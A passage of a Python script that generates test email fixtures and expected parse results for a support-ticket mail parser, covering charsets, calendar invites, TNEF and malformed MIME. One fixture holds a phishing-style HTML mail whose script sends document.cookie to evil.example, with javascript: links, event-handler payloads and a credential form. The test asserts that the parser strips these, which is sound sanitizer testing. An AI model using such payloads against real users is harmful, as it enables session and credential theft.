=3D"1" height=3D"1" alt=3D""><img src=3D"https://t.vendor.example/o2.gif" s=
tyle=3D"display:none"></td></tr></table></body></html>
""", {
    "subject": "March product update",
    "html_contains": ["[remote image: Spring sale]", "<h1>March update</h1>", 'href="https://news.vendor.example/c/1?u=8812"'],
    "html_not_contains": ["open.gif", "o2.gif", "bg.png", "tbl.png", "<img"],
    "text_contains": ["March update", "New dashboard and faster search."],
    "flags": {"is_automatic": True},
})

write("null_return_path_notification", """Return-Path: <>
From: Monitoring <monitor@ops.example>
To: support@docket.example
Subject: ALERT: disk usage 91% on db-2
Date: Sat, 14 Mar 2026 03:00:00 +0000
Message-ID: <alert-db-2-disk@ops.example>
Content-Type: text/plain

Disk /var/lib/postgresql is 91% full.
""", {
    "subject": "ALERT: disk usage 91% on db-2",
    "flags": {"is_automatic": True, "is_bounce": False, "is_auto_reply": False},
})

# ---------------------------------------------------------------- calendar, TNEF

write("calendar_invite_outlook", """Return-Path: <maria.lopez@contoso.example>
From: Maria Lopez <maria.lopez@contoso.example>
To: Docket Support <support@docket.example>
Subject: Escalation review
Thread-Topic: Escalation review
Date: Sat, 14 Mar 2026 10:00:00 +0000
Message-ID: <AM0PR01MB1234567890ABCDEF@AM0PR01MB1234.eurprd01.prod.outlook.example>
Accept-Language: en-US
Content-Language: en-US
X-MS-Has-Attach:
X-MS-TNEF-Correlator:
MIME-Version: 1.0
Content-Type: multipart/alternative;
\tboundary="_000_AM0PR01MB1234567890ABCDEF_"

--_000_AM0PR01MB1234567890ABCDEF_
Content-Type: text/plain; charset="us-ascii"

Quarterly review of open escalations.

--_000_AM0PR01MB1234567890ABCDEF_
Content-Type: text/html; charset="us-ascii"

<html><body><p>Quarterly review of open escalations.</p></body></html>

--_000_AM0PR01MB1234567890ABCDEF_
Content-Type: text/calendar; charset="utf-8"; method=REQUEST
Content-Transfer-Encoding: base64

%s

--_000_AM0PR01MB1234567890ABCDEF_--
""" % b64(ICS.replace("\n", "\r\n").encode()), {
    "subject": "Escalation review",
    "filenames": ["invite.ics"],
    "content_types": ["text/calendar"],
    "text_contains": ["Quarterly review of open escalations."],
}, crlf=True)

write("calendar_invite_google", """Return-Path: <calendar-notification@google.example>
From: Ravi Kumar <ravi@partner.example>
To: support@docket.example
Subject: Invitation: Onboarding call @ Mon Mar 16, 2026 3pm - 3:30pm (GMT) (support@docket.example)
Date: Sat, 14 Mar 2026 11:00:00 +0000
Message-ID: <calendar-4b1a2c3d-5e6f-4a7b-8c9d-0e1f2a3b4c5d@google.example>
Reply-To: Ravi Kumar <ravi@partner.example>
Sender: Google Calendar <calendar-notification@google.example>
Auto-Submitted: no
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="000000000000c0ffee061d8f0123"

--000000000000c0ffee061d8f0123
Content-Type: multipart/alternative; boundary="000000000000c0ffee061d8f0122"

--000000000000c0ffee061d8f0122
Content-Type: text/plain; charset="UTF-8"; format=flowed; delsp=yes

You have been invited to the following event.

Onboarding call
Monday Mar 16, 2026 3pm - 3:30pm (GMT)

--000000000000c0ffee061d8f0122
Content-Type: text/calendar; charset="UTF-8"; method=REQUEST

%s
--000000000000c0ffee061d8f0122--

--000000000000c0ffee061d8f0123
Content-Type: application/ics; name="invite.ics"
Content-Disposition: attachment; filename="invite.ics"
Content-Transfer-Encoding: base64

%s
--000000000000c0ffee061d8f0123--
""" % (ICS.replace("Microsoft Exchange Server 2010", "-//Google Inc//Google Calendar 70.9054//EN"),
       b64(ICS.encode())), {
    "subject": "Invitation: Onboarding call @ Mon Mar 16, 2026 3pm - 3:30pm (GMT) (support@docket.example)",
    "filenames": ["invite.ics", "invite.ics"],
    "content_types": ["text/calendar", "application/ics"],
    "flags": {"is_automatic": False, "is_auto_reply": False},
})

write("winmail_dat_tnef", """Return-Path: <old.exchange@legacy.example>
From: "Old Exchange User" <old.exchange@legacy.example>
To: <support@docket.example>
Subject: Contract draft
Date: Sun, 15 Mar 2026 09:00:00 +0000
Message-ID: <01D9A1B2C3D4E5F6@legacy.example>
MIME-Version: 1.0
X-MS-TNEF-Correlator: <01D9A1B2C3D4E5F6@legacy.example>
Content-Type: multipart/mixed; boundary="----_=_NextPart_001_01D9A1B2.C3D4E5F6"

------_=_NextPart_001_01D9A1B2.C3D4E5F6
Content-Type: text/plain; charset="iso-8859-1"
Content-Transfer-Encoding: quoted-printable

Please find the contract draft attached.

------_=_NextPart_001_01D9A1B2.C3D4E5F6
Content-Type: application/ms-tnef; name="winmail.dat"
Content-Transfer-Encoding: base64
Content-Disposition: attachment; filename="winmail.dat"

%s

------_=_NextPart_001_01D9A1B2.C3D4E5F6--
""" % b64(TNEF), {
    "subject": "Contract draft",
    "filenames": ["winmail.dat"],
    "content_types": ["application/ms-tnef"],
})

write("tnef_without_filename", """Return-Path: <old.exchange@legacy.example>
From: old.exchange@legacy.example
To: support@docket.example
Subject: Minutes
Date: Sun, 15 Mar 2026 09:05:00 +0000
Message-ID: <01D9A1B2C3D4E5F7@legacy.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="tnef-b"

--tnef-b
Content-Type: text/plain

Minutes attached.

--tnef-b
Content-Type: application/vnd.ms-tnef
Content-Transfer-Encoding: base64

%s
--tnef-b--
""" % b64(TNEF), {
    "subject": "Minutes",
    "filenames": ["winmail.dat"],
    "content_types": ["application/vnd.ms-tnef"],
})

# ---------------------------------------------------------------- HTML

write("html_only_malicious", """Return-Path: <attacker@evil.example>
From: "IT Department" <attacker@evil.example>
To: support@docket.example
Subject: Urgent: verify your account
Date: Sun, 15 Mar 2026 12:00:00 +0000
Message-ID: <evil-1@evil.example>
MIME-Version: 1.0
Content-Type: text/html; charset="utf-8"

<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/"><script>document.location='https://evil.example/?c='+document.cookie</script>
<link rel="stylesheet" href="https://evil.example/x.css"><style>@import url(https://evil.example/y.css);</style></head>
<body onload="steal()">
<p onclick="steal()" style="background-image:url(https://evil.example/bg)">Please <b>verify</b> your account.</p>
<a href="javascript:steal()">Click here</a> or <a href="JaVaScRiPt&#58;steal()">here</a> or <a href="/api/v1/admin/delete">this</a>.
<img src="x" onerror="steal()"><img src="https://evil.example/track.gif?id=42" width="1" height="1">
<img src="https://evil.example/logo.png" alt="Company logo"><img srcset="https://evil.example/a.png 2x">
<img src="data:image/png;base64,iVBORw0KGgo=" alt="inline data">
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/o.swf"></object><embed src="https://evil.example/e.swf">
<form action="https://evil.example/login"><input name="password" type="password"><button>Log in</button></form>
<svg onload="steal()"><image href="https://evil.example/svg.png"/></svg>
<video poster="https://evil.example/poster.jpg"></video>
<a href="https://evil.example/phish" onmouseover="steal()">Account portal</a>
</body></html>
""", {
    "subject": "Urgent: verify your account",
    "html_contains": ["<b>verify</b>", "[remote image: Company logo]", 'href="https://evil.example/phish"', "[image: inline data]"],
    "html_not_contains": ["track.gif", "steal", "refresh", "x.css", "y.css", "/api/v1/admin", "svg.png", "poster.jpg", "frame",
                          "password", "bg)", "data:"],
    "text_contains": ["Please *verify* your account.", "[remote image: Company logo]"],
    "text_not_contains": ["document.cookie", "@import", "javascript", "steal", "/api/v1"],
})

HTML1252 = """Return-Path: <sales@shop.example>
From: Shop <sales@shop.example>
To: support@docket.example
Subject: Order confirmation
Date: Sun, 15 Mar 2026 13:00:00 +0000
Message-ID: <order-conf-1@shop.example>
MIME-Version: 1.0
Content-Type: text/html; charset=windows-1252
Content-Transfer-Encoding: 8bit

<html><body><p>Total: 49,90 € – thank you for your order at “Café Müller”.</p><p>Questions? Reply to this mail.</p></body></html>
"""
write("html_only_windows1252", "", {
    "subject": "Order confirmation",
    "html_contains": ["49,90 € – thank you", "“Café Müller”"],
    "text_contains": ["“Café Müller”"],
}, raw_bytes=HTML1252.encode("cp1252"))

# ---------------------------------------------------------------- charsets

CHARSET_CASES = [
    # name, python codec, subject, body, filename, transfer encoding, filename style
    ("charset_utf8", "utf-8", "Grüße 👋 aus Zürich – 東京 – Привет", "Hello 👋, the Zürich office (東京 too) cannot print. Привет!", "Bericht_Zürich_東京.pdf", "base64", "2231"),
    ("charset_iso8859_1", "latin-1", "Grüße aus München: Drucker défekt", "Grüße aus München, der Drucker ist kaputt. Ça va? Señor Núñez.", "Übersicht März.pdf", "quoted-printable", "2047"),
    ("charset_iso8859_2", "iso8859_2", "Zażółć gęślą jaźń, tiskárna", "Dobrý den, tiskárna nefunguje. Zażółć gęślą jaźń.", "Příloha_łódź.pdf", "quoted-printable", "2231"),
    ("charset_iso8859_15", "iso8859_15", "Preis 100 € für Œuvre", "Der Preis beträgt 100 €. Œuvre, Šárka, Žofie, Ÿ.", "Angebot_€_Œuvre.pdf", "8bit", "2047"),
    ("charset_windows1250", "cp1250", "Příliš žluťoučký kůň", "Příliš žluťoučký kůň úpěl ďábelské ódy. „Děkuji“", "Smlouva_ďábel.docx", "quoted-printable", "2231"),
    ("charset_windows1251", "cp1251", "Здравствуйте, не работает принтер", "Здравствуйте! Не работает принтер в бухгалтерии. «Срочно»", "Счёт_№42.pdf", "base64", "2047"),
    ("charset_windows1252", "cp1252", "“Smart quotes” – café €5", "Smart “quotes” – and € price… naïve café, œuvre.", "Café_“menu”.pdf", "quoted-printable", "2231"),
    ("charset_shift_jis", "shift_jis", "プリンターが動きません", "お世話になっております。プリンターが動きません。至急ご確認ください。", "報告書_三月.xlsx", "base64", "2047"),
    ("charset_iso2022jp", "iso2022_jp", "会議の件でご連絡します", "会議の件でご連絡します。\nよろしくお願いします。", "議事録.pdf", "7bit", "2047"),
    ("charset_gb2312", "gb2312", "您好，打印机坏了", "您好，打印机坏了，请帮忙处理。谢谢！", "报告_三月.pdf", "base64", "2047"),
    ("charset_gbk", "gbk", "关于朱镕基与陶喆的资料", "您好，附件是关于朱镕基与陶喆的资料。", "资料_镕喆.pdf", "base64", "2231"),
    ("charset_koi8r", "koi8_r", "Привет! Заявка номер 42", "Привет! Заявка номер 42 закрыта? Ёлки-палки.", "Заявка_42.txt", "8bit", "2231"),
]

for name, cs, subject, body, fname, cte, fstyle in CHARSET_CASES:
    csn = cs_name(cs)
    enc = "Q" if cs in ("latin-1", "iso8859_2", "iso8859_15", "cp1250", "cp1252") else "B"
    subj = ew(subject, cs, enc)
    body_bytes = (body + "\n").encode(cs)
    if cte == "base64":
        body_enc = b64(body_bytes)
    elif cte == "quoted-printable":
        body_enc = quopri.encodestring(body_bytes).decode("ascii")
    else:
        body_enc = body_bytes.decode("latin-1")  # raw 8-bit/7-bit bytes, written back below
    if fstyle == "2231":
        fparam = "filename*=%s''%s" % (csn, pct(fname, cs))
        nparam = 'name*=%s\'\'%s' % (csn, pct(fname, cs))
    else:
        fparam = 'filename="%s"' % ew(fname, cs, "B", chunk=30).replace("\n ", "")
        nparam = 'name="%s"' % ew(fname, cs, "B", chunk=30).replace("\n ", "")
    ctype = "text/plain; charset=%s" % csn if fname.endswith(".txt") else "application/octet-stream"
    attach_data = ("Inhalt / content: " + body + "\n").encode(cs) if fname.endswith(".txt") else PDF
    from_name = ew(subject.split()[0].strip(",!:"), cs, "B")
    text = """Return-Path: <sender@intl.example>
From: %s <sender@intl.example>
To: support@docket.example
Subject: %s
Date: Mon, 16 Mar 2026 08:00:00 +0900
Message-ID: <%s@intl.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="cs-boundary-%s"

--cs-boundary-%s
Content-Type: text/plain; charset="%s"
Content-Transfer-Encoding: %s

%s
--cs-boundary-%s
Content-Type: %s; %s
Content-Disposition: attachment; %s
Content-Transfer-Encoding: base64

%s
--cs-boundary-%s--
""" % (from_name, subj, name, name, name, csn, cte, body_enc, name, ctype, nparam, fparam, b64(attach_data), name)
    checks = {
        "subject": subject,
        "from_name": subject.split()[0].strip(",!:"),
        "text_contains": [body.split("\n")[0]],
        "filenames": [fname],
    }
    if fname.endswith(".txt"):
        checks["part_text_contains"] = ["Inhalt / content: " + body]
    write(name, "", checks, raw_bytes=text.encode("latin-1"))

write("charset_html_gb2312_related", """Return-Path: <li.wei@corp.example>
From: =?GB2312?B?wO7OsA==?= <li.wei@corp.example>
To: support@docket.example
Subject: %s
Date: Mon, 16 Mar 2026 10:00:00 +0800
Message-ID: <html-gb-1@corp.example>
MIME-Version: 1.0
Content-Type: multipart/related; boundary="rel-gb"; type="text/html"

--rel-gb
Content-Type: text/html; charset="gb2312"
Content-Transfer-Encoding: base64

%s
--rel-gb
Content-Type: image/png; name="=?GB2312?B?vdjNvC5wbmc=?="
Content-ID: <screen-1@corp.example>
Content-Transfer-Encoding: base64

%s
--rel-gb--
""" % (ew("请看附件中的截图", "gb2312"), b64("<html><body><p>您好，请看截图：</p><img src=\"cid:screen-1@corp.example\"><p>谢谢</p></body></html>".encode("gb2312")), b64(PNG)), {
    "subject": "请看附件中的截图",
    "from_name": "李伟",
    "filenames": ["截图.png"],
    "html_contains": ["您好，请看截图：", 'src="cid:screen-1@corp.example"'],
    "text_contains": ["您好，请看截图："],
})

# ---------------------------------------------------------------- malformed

write("malformed_missing_boundary_end", """Return-Path: <a@broken.example>
From: a@broken.example
To: support@docket.example
Subject: Truncated upload
Date: Mon, 16 Mar 2026 12:00:00 +0000
Message-ID: <trunc-1@broken.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="never-closed"

--never-closed
Content-Type: text/plain; charset=utf-8

The attachment may be cut off.

--never-closed
Content-Type: application/pdf; name="cut.pdf"
Content-Disposition: attachment; filename="cut.pdf"
Content-Transfer-Encoding: base64

JVBERi0xLjQKMSAwIG9iajw8L1R5cGUvQ2F0YWxvZz4+ZW5kb2JqCg==
""", {
    "subject": "Truncated upload",
    "text_contains": ["The attachment may be cut off."],
    "filenames": ["cut.pdf"],
})

write("malformed_bad_base64", """From: b@broken.example
To: support@docket.example
Subject: Bad base64
Date: Mon, 16 Mar 2026 12:05:00 +0000
Message-ID: <b64-1@broken.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="b64b"

--b64b
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: base64

SGVsbG8sIHRoaXMgdGV4dCBpcyBmaW5lLg==
!!!not base64 at all###
--b64b
Content-Type: image/png; name="broken.png"
Content-Disposition: attachment; filename="broken.png"
Content-Transfer-Encoding: base64

iVBORw0KGgo%%%%AAAANSUhEUg====AAA
--b64b--
""", {
    "subject": "Bad base64",
    "text_contains": ["Hello, this text is fine."],
    "filenames": ["broken.png"],
})

write("malformed_no_content_type", """From: Old Unix User <root@legacy-host.example>
To: support@docket.example
Subject: cron job output
Date: Mon, 16 Mar 2026 12:10:00 +0000
Message-ID: <cron.12345@legacy-host.example>

/etc/cron.daily/backup:
tar: Removing leading `/' from member names
Backup finished OK.
""", {
    "subject": "cron job output",
    "text_contains": ["Backup finished OK."],
})

write("malformed_8bit_headers", "", {
    "subject": "Rückruf erbeten – Straße",
    "from_name": "Jörg Müller",
    "to_names": ["Señora Núñez"],
    "filenames": ["Übersicht.pdf"],
    "text_contains": ["Bitte rufen Sie zurück."],
}, raw_bytes=("""From: Jörg Müller <joerg@gmx.example>
To: """.encode("utf-8") + "Señora Núñez".encode("latin-1") + """ <nunez@latin.example>
Subject: Rückruf erbeten – Straße
Date: Mon, 16 Mar 2026 12:15:00 +0100
Message-ID: <8bit-hdr-1@gmx.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="x8"

--x8
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

Bitte rufen Sie zurück.
--x8
Content-Type: application/pdf
Content-Disposition: attachment; filename="Übersicht.pdf"
Content-Transfer-Encoding: base64

""".encode("utf-8") + b64(PDF).encode() + b"\n--x8--\n"))

write("malformed_duplicate_headers", """From: First Sender <first@dup.example>
From: Second Sender <second@dup.example>
To: support@docket.example
To: other@docket.example
Subject: First subject
Subject: Second subject
Date: Mon, 16 Mar 2026 12:20:00 +0000
Message-ID: <dup-1@dup.example>
Message-ID: <dup-2@dup.example>
Content-Type: text/plain; charset=utf-8
Content-Type: text/html

Plain text wins: <b>not bold</b>.
""", {
    "subject": "First subject",
    "text_contains": ["Plain text wins"],
})

write("malformed_multipart_no_boundary", """From: c@broken.example
To: support@docket.example
Subject: Multipart without boundary
Date: Mon, 16 Mar 2026 12:25:00 +0000
Message-ID: <nob-1@broken.example>
MIME-Version: 1.0
Content-Type: multipart/alternative

This body has no boundary parameter, so it is read as text.
""", {
    "subject": "Multipart without boundary",
    "text_contains": ["This body has no boundary parameter"],
})

write("malformed_bad_encoded_words", """From: =?utf-8?B?broken?= <d@broken.example>
To: "=?unknown-charset?Q?X?=" <support@docket.example>
Subject: =?utf-8?Q?Half_encoded_?= plain =?iso-8859-1?q?caf=E9?= and =?utf-8?B?bad base64?=
Date: not a date at all
Message-ID: d-no-brackets@broken.example
In-Reply-To: Your message of Monday <orig-1@docket.example> (sent)
References: <r1@docket.example><r2@docket.example>   <r3@docket.example>
Content-Type: text/plain; charset=no-such-charset

Body in an unknown charset.
""", {
    "text_contains": ["Body in an unknown charset."],
})

write("mbox_from_line_crlf", """From support@docket.example Mon Mar 16 12:30:00 2026
Return-Path: <e@mbox.example>
From: e@mbox.example
To: support@docket.example
Subject: From an mbox export
Date: Mon, 16 Mar 2026 12:30:00 +0000
Message-ID: <mbox-1@mbox.example>
Content-Type: text/plain; charset=us-ascii

Exported from an mbox file.
""", {
    "subject": "From an mbox export",
    "text_contains": ["Exported from an mbox file."],
}, crlf=True)

LONG = ("word " * 40000).strip()
write("long_lines", """Return-Path: <f@long.example>
From: f@long.example
To: support@docket.example
Subject: %s
Date: Mon, 16 Mar 2026 12:35:00 +0000
Message-ID: <long-1@long.example>
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="lb"

--lb
Content-Type: text/plain; charset=utf-8

Start. %s End.
--lb
Content-Type: text/html; charset=utf-8

<p>Start. %s End.</p>
--lb--
""" % ("Very long subject " * 50, LONG, "<b>x</b>" * 20000), {
    "subject": ("Very long subject " * 50).strip(),
    "text_contains": ["Start. word word", "word End."],
    "html_contains": ["<b>x</b><b>x</b>"],
})

write("rfc2231_continuation", """From: g@files.example
To: support@docket.example
Subject: Long file name
Date: Mon, 16 Mar 2026 12:40:00 +0000
Message-ID: <cont-1@files.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="cb"

--cb
Content-Type: text/plain

See attachment.
--cb
Content-Type: application/pdf
Content-Disposition: attachment;
 filename*0*=UTF-8''Jahres%%C3%%BCbersicht%%20;
 filename*1*=2025%%20%%E2%%80%%93%%20;
 filename*2="final version.pdf"
Content-Transfer-Encoding: base64

%s
--cb--
""" % b64(PDF), {
    "subject": "Long file name",
    "filenames": ["Jahresübersicht 2025 – final version.pdf"],
})

write("thunderbird_inline_text_attachment", """From: Jan Novak <j.novak@firma.example>
To: support@docket.example
Subject: Config file
Date: Mon, 16 Mar 2026 12:45:00 +0100
Message-ID: <tb-inline-1@firma.example>
User-Agent: Mozilla Thunderbird
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="------------tbA1B2C3"

This is a multi-part message in MIME format.
--------------tbA1B2C3
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 7bit

Here is my config.

--------------tbA1B2C3
Content-Type: text/plain; charset=UTF-8; name="vpn.conf"
Content-Disposition: inline; filename="vpn.conf"
Content-Transfer-Encoding: base64

%s
--------------tbA1B2C3--
""" % b64(b"remote vpn.firma.example 1194\nproto udp\n"), {
    "subject": "Config file",
    "filenames": ["vpn.conf"],
    "text_contains": ["Here is my config."],
    "text_not_contains": ["proto udp"],
})

write("reply_bottom_quote_only_gt", """From: Old Timer <ot@usenet.example>
To: support@docket.example
Subject: Re: question
Date: Mon, 16 Mar 2026 13:00:00 +0000
Message-ID: <gt-1@usenet.example>
In-Reply-To: <ticket-9000.1.a@docket.example>
References: <ticket-9000.1.a@docket.example>
Content-Type: text/plain; charset=us-ascii

> Which version do you run?

3.1.4, on Debian.

> And which browser?

Firefox 128.

> Thanks,
> Docket Support
""", {
    "subject": "Re: question",
    "quote_prefix": "> Thanks,",
})

# ---------------------------------------------------------------- learned from other projects' corpora
# Minimal cases of what filing Zammad's, RT's and enmime's test mails
# (../shared/mail-corpora) showed Docket reading wrongly (issue 7).

write("mixed_text_beside_html", """From: Rosa Diaz <rosa@shop.example>
To: support@docket.example
Subject: Text between two HTML parts
Date: Tue, 17 Mar 2026 09:00:00 +0000
Message-ID: <mixed-1@shop.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="mx"

--mx
Content-Type: text/html; charset=UTF-8

<html><body><p>The order arrived broken.</p></body></html>
--mx
Content-Type: text/plain; charset=UTF-8

Order 4711, two cups & a saucer.
--mx
Content-Type: text/html; charset=UTF-8

<html><body><p>-- Rosa, sent from the shop's web mail</p></body></html>
--mx--
""", {
    "subject": "Text between two HTML parts",
    "html_contains": ["The order arrived broken.", "Order 4711, two cups &amp; a saucer.", "sent from the shop"],
    "text_contains": ["The order arrived broken.", "Order 4711, two cups & a saucer.", "sent from the shop"],
})

# The HTML alternative shows nothing (a title and an empty table): the text
# must win, or the message is empty. "<td" in the HTML would mean it won.
write("alternative_empty_html", """From: Billing <billing@gate.example>
To: support@docket.example
Subject: Your invoice as a PDF
Date: Tue, 17 Mar 2026 09:05:00 +0000
Message-ID: <alt-empty-1@gate.example>
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="alt"

--alt
Content-Type: text/plain; charset=UTF-8

Dear customer, your invoice B181347 is attached.
--alt
Content-Type: text/html; charset=UTF-8

<html><head><title>Your invoice as a PDF</title></head>
<body><table><tr><td><center><br><br></center></td></tr></table></body></html>
--alt--
""", {
    "subject": "Your invoice as a PDF",
    "text_contains": ["your invoice B181347 is attached"],
    "html_not_contains": ["<td", "<br"],
})

# Two alternatives of one kind: the last is the preferred one (RFC 2046),
# and only one of them shows.
write("alternative_two_plain", """From: Kim Lee <kim@example.org>
To: support@docket.example
Subject: Two plain alternatives
Date: Tue, 17 Mar 2026 09:10:00 +0000
Message-ID: <alt-two-1@example.org>
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="alt2"

--alt2
Content-Type: text/plain; charset=us-ascii

Printer jammed (short version).
--alt2
Content-Type: text/plain; charset=us-ascii

The printer on floor 2 jammed again after the toner change.
--alt2--
""", {
    "subject": "Two plain alternatives",
    "text_contains": ["The printer on floor 2 jammed again"],
    "text_not_contains": ["short version"],
})

# Only the root of a multipart/related is the body; the other parts are
# what it refers to, even an HTML one (as Outlook for Mac sends them).
write("related_extra_html_part", """From: Sepp Huber <sepp@alm.example>
To: support@docket.example
Subject: Greetings with pictures
Date: Tue, 17 Mar 2026 09:15:00 +0000
Message-ID: <related-1@alm.example>
MIME-Version: 1.0
Content-Type: multipart/related; boundary="rel"

--rel
Content-Type: text/html; charset=UTF-8

<html><body><p>Greetings from the valley.</p><img src="cid:image001.png@01CDB132.D8A510F0"></body></html>
--rel
Content-Type: image/png
Content-Transfer-Encoding: base64
Content-ID: <image001.png@01CDB132.D8A510F0>

%s
--rel
Content-Type: text/html; charset=us-ascii

<html>stationery background</html>
--rel--
""" % b64(PNG), {
    "subject": "Greetings with pictures",
    "content_types": ["image/png", "text/html"],
    "html_contains": ["Greetings from the valley.", 'src="cid:image001.png@01CDB132.D8A510F0"'],
    "html_not_contains": ["stationery background"],
    "part_text_contains": ["stationery background"],
})

# Encoded words inside a quoted display name (not allowed by RFC 2047, sent
# all the same) and base64 with extra "=" padding.
write("encoded_words_quoted_and_padded", """From: "=?UTF-8?B?TWFyw61hIEzDs3Blei1HYXJjw61h?=" <maria@example.org>
To: "=?ISO-2022-JP?B?GyRCO3ZMMzZJGyhC==?="
 <office@example.jp>, support@docket.example
Subject: =?gb18030?B?suLK1A===?= =?UTF-8?Q?Caf=C3=A9?=
Date: Tue, 17 Mar 2026 09:20:00 +0000
Message-ID: <ew-1@example.org>
Content-Type: text/plain; charset=UTF-8

Names and subject are encoded words.
""", {
    "subject": "测试Café",
    "from_name": "María López-García",
    "to_names": ["事務局", ""],
})

# Raw 8-bit header bytes that are not UTF-8 are read in the charset the
# message declares for its text: GB2312 (read as GBK) here, ISO-8859-1 in
# the next one (a file name beside a Latin-1 text).
write("raw_8bit_headers_declared_gbk", "", {
    "subject": "测试报告",
    "from_name": "王小明",
    "filenames": ["绩效管理.xls"],
    "text_contains": ["请查收附件。"],
}, raw_bytes=b"From: \"" + "王小明".encode("gbk") + b"\" <wang@example.cn>\n" + (
    "Subject: ".encode() + "测试报告".encode("gbk") + b"""
To: support@docket.example
Date: Tue, 17 Mar 2026 09:25:00 +0800
Message-ID: <gbk-hdr-1@example.cn>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="gb"; charset="GB2312"

--gb
Content-Type: text/plain; charset=GB2312
Content-Transfer-Encoding: base64

""" + base64.b64encode("请查收附件。".encode("gbk")) + b"""
--gb
Content-Type: application/octet-stream; name=\"""" + "绩效管理.xls".encode("gbk") + b"""\"
Content-Disposition: attachment; filename=\"""" + "绩效管理.xls".encode("gbk") + b"""\"
Content-Transfer-Encoding: base64

""" + b64(PDF).encode() + b"\n--gb--\n"))

write("raw_8bit_filename_latin1", "", {
    "subject": "W.: Invoice",
    "filenames": ["Hofjägeralle Wasserschaden.jpg"],
    "text_contains": ["anbei die Fotos, schöne Grüße"],
}, raw_bytes=b"""From: example@example.com
To: support@docket.example
Subject: W.: Invoice
Date: Tue, 17 Mar 2026 09:30:00 +0100
Message-ID: <latin1-fn-1@example.com>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="l1"

--l1
Content-Type: text/plain; charset=ISO-8859-1
Content-Transfer-Encoding: 8bit

""" + "anbei die Fotos, schöne Grüße".encode("latin-1") + b"""
--l1
Content-Type: image/jpg
Content-Transfer-Encoding: base64
Content-Disposition: attachment; filename=\"""" + "Hofjägeralle Wasserschaden.jpg".encode("latin-1") + b"""\"

""" + b64(JPEG).encode() + b"\n--l1--\n")

# A PHP contact form: raw UTF-8 and no MIME headers at all. Long enough
# for a charset detector to have taken it for Latin-1.
write("php_form_raw_utf8_body", "", {
    "subject": "Nouveau message contact élégibilité",
    "from_name": "Rémi Ordonaud",
    "text_contains": ["Prénom: Rémi", "Téléphone: 0601020304", "Ville: Olèchena", "Société: Établissements Müller"],
    "text_not_contains": ["Ã"],
}, raw_bytes="""To: Support <support@docket.example>
Subject: Nouveau message contact élégibilité
X-PHP-Originating-Script: 111:contact.php
From: Rémi Ordonaud <r.ordonaud@example.com>
Message-Id: <20260317093500.8CEF15FB28@01.localdomain>
Date: Tue, 17 Mar 2026 09:35:00 +0100 (CET)

Nouveau message :
=============================
Nom: Ordonaud
Prénom: Rémi
Téléphone: 0601020304
Email: r.ordonaud@example.com
Société: Établissements Müller
Adresse: 3 rue de l'Église
CP: 11111
Ville: Olèchena
Message: Bonjour, je souhaite connaître les conditions d'éligibilité.
""".encode("utf-8"))

# UTF-8 text with one stray Latin-1 byte: the byte is read as Latin-1 and
# the rest stays UTF-8 (not U+FFFD, not all mojibake).
write("utf8_body_stray_latin1_byte", "", {
    "subject": "Stray byte",
    "text_contains": ["Grüße aus Köln, naïve café"],
}, raw_bytes=b"""From: s@example.org
To: support@docket.example
Subject: Stray byte
Date: Tue, 17 Mar 2026 09:40:00 +0000
Message-ID: <stray-1@example.org>
MIME-Version: 1.0
Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: 8bit

""" + "Grüße aus Köln, na".encode("utf-8") + b"\xef" + "ve café\n".encode("utf-8"))

# Apple Mail folds the line right after "filename=", and its parameters go
# on (size, dates): the name is not "...jpg"; size=74975; ...". A name with
# two spaces keeps them.
write("apple_mail_folded_filename", """From: Martin Smith <martin@example.de>
To: support@docket.example
Subject: Screenshot and invoice
Date: Tue, 17 Mar 2026 09:45:00 +0100
Message-Id: <apple-fold-1@example.de>
Mime-Version: 1.0 (Mac OS X Mail 11.2 \\(3445.5.20\\))
Content-Type: multipart/mixed; boundary="Apple-Mail=_A3A8"

--Apple-Mail=_A3A8
Content-Transfer-Encoding: 7bit
Content-Type: text/plain; charset=us-ascii

See the screenshot.

--Apple-Mail=_A3A8
Content-Type: image/jpg;
	name="=?utf-8?Q?Capture_d=E2=80=99=C3=A9cran_2017-12-27_=C3=A0_12=2E22=2E38=2Ejpg?="
Content-Disposition: attachment; filename=
	"=?utf-8?Q?Capture_d=E2=80=99=C3=A9cran_2017-12-27_=C3=A0_12=2E22=2E38=2Ejpg?=";
	size=74975; creation-date="Wed, 27 Dec 2017 11:23:05 GMT";
	modification-date="Wed, 27 Dec 2017 11:23:05 GMT"
Content-Transfer-Encoding: base64

%s
--Apple-Mail=_A3A8
Content-Type: application/pdf;
	name="Tax Invoice  INX4183.PDF"
Content-Disposition: attachment;
	filename="Tax Invoice  INX4183.PDF"
Content-Transfer-Encoding: base64

%s
--Apple-Mail=_A3A8--
""" % (b64(JPEG), b64(PDF)), {
    "subject": "Screenshot and invoice",
    "filenames": ["Capture d’écran 2017-12-27 à 12.22.38.jpg", "Tax Invoice  INX4183.PDF"],
})

# The x-uuencode transfer encoding (Eudora and other old mailers), here
# without the "begin"/"end" lines, as Zammad's mail078 has it.
UU_FILE = b"Comments on the RTO West release of December 14, 2001.\r\nSee the attached tables.\r\n"
write("x_uuencode_attachment", """From: "Lon L. Peters" <lpeters@example.com>
To: support@docket.example
Subject: PGP Comments on RTO West Release of Dec. 14
Date: Tue, 17 Mar 2026 09:50:00 -0800
Message-Id: <uu-1@example.com>
Mime-Version: 1.0
Content-Type: multipart/mixed; boundary="============_-1201422494==_============"

--============_-1201422494==_============
Content-Type: text/plain; charset="us-ascii" ; format="flowed"

Attached are our comments.

